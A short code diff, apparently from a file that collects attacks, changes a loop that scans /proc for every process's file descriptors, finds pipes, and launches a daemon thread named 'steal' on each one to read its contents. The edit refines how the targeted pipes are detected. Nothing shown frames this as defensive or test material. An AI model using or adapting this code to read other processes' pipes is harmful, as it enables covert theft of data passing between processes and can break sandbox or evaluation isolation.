@@ -234,7 +234,7 @@ ATTACKS = (
                 pass
 
         for path in glob.glob("/proc/[0-9]*/fd/*"):
-            if os.path.realpath(path).startswith("/proc/") and "pipe" in os.readlink(path):
+            if os.path.lexists(path) and "pipe:" in os.path.realpath(path):
                 threading.Thread(target=steal, args=(path,), daemon=True).start()
 
         def strided_timesteps(start=990, stride=30):
